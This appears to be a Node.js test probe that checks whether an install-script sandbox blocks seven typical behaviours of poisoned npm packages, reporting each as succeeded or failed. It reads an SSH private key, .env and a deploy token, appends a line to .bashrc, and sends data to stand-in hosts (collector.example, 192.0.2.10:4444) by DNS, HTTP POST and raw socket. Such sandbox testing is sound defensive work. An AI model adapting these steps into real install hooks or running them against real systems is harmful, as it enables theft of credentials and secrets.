// The seven things that poisoned install scripts do. Each attempt resolves to what it got, or throws what stopped it; nothing here does harm:
// the names end in .example, the address is reserved for documentation, and what is read goes nowhere. ATTACK_* variables point the three network
// attempts at servers of a test, to show that they work where no fence is.
const dns = require("node:dns").promises;
const fs = require("node:fs");
const http = require("node:http");
const net = require("node:net");
const os = require("node:os");
const path = require("node:path");

const project = process.env.INIT_CWD ?? process.cwd();
const home = os.homedir();
const patience = 5000;

function endpoint(variable, host, port) {
  const [givenHost, givenPort] = (process.env[variable] ?? "").split(":");
  return givenPort ? { host: givenHost, port: Number(givenPort) } : { host, port };
}

function readSshKey() {
  return fs.readFileSync(path.join(home, ".ssh", "id_ed25519"), "utf8");
}

function appendToShellStartup() {
  fs.appendFileSync(path.join(home, ".bashrc"), "# left-padded was here\n");
  return "appended";
}

async function lookUpText() {
  const resolver = new dns.Resolver({ timeout: patience, tries: 1 });
  if (process.env.ATTACK_RESOLVER) resolver.setServers([process.env.ATTACK_RESOLVER]);
  const records = await resolver.resolveTxt("c2VjcmV0.collector.example");
  return records.flat().join("");
}

function post() {
  const { host, port } = endpoint("ATTACK_COLLECTOR", "collector.example", 80);
  return new Promise((resolve, reject) => {
    const request = http.request({ host, port, method: "POST", path: "/", timeout: patience }, (response) => {
      response.resume();
      if (response.statusCode < 300) resolve(`status ${response.statusCode}`);
      else reject(Object.assign(new Error(`status ${response.statusCode}`), { code: `HTTP${response.statusCode}` }));
    });
    request.on("timeout", () => request.destroy(Object.assign(new Error("no answer"), { code: "ETIMEDOUT" })));
    request.on("error", reject);
    request.end("what was stolen");
  });
}

function connectToAddress() {
  const { host, port } = endpoint("ATTACK_ADDRESS", "192.0.2.10", 4444);
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port, timeout: patience }, () => socket.write("hello\n"));
    socket.on("data", (data) => {
      resolve(data.toString().trim());
      socket.destroy();
    });
    socket.on("timeout", () => socket.destroy(Object.assign(new Error("no answer"), { code: "ETIMEDOUT" })));
    socket.on("error", reject);
    socket.on("close", () => reject(Object.assign(new Error("closed without a word"), { code: "ECLOSED" })));
  });
}

function readDotEnv() {
  return fs.readFileSync(path.join(project, ".env"), "utf8");
}

function readToken() {
  if (!process.env.DEPLOY_TOKEN) throw Object.assign(new Error("the variable is not set"), { code: "EUNSET" });
  return process.env.DEPLOY_TOKEN;
}

const attempts = {
  "read an ssh key": readSshKey,
  "append to a shell start-up file": appendToShellStartup,
  "look up a TXT record": lookUpText,
  "post to an unlisted host": post,
  "connect to an IP address": connectToAddress,
  "read ./.env": readDotEnv,
  "read a token variable": readToken,
};

async function main() {
  const report = [];
  for (const [attempt, act] of Object.entries(attempts)) {
    try {
      const got = await act();
      report.push({ attempt, succeeded: String(got).length > 0, detail: `got ${String(got).length} characters` });
    } catch (error) {
      report.push({ attempt, succeeded: false, detail: error.code ?? error.message });
    }
  }
  for (const line of report) console.log(`${line.succeeded ? "SUCCEEDED" : "failed   "}  ${line.attempt} (${line.detail})`);
  fs.writeFileSync(path.join(project, "node_modules", ".left-padded.json"), JSON.stringify(report, null, 2) + "\n");
}

main();
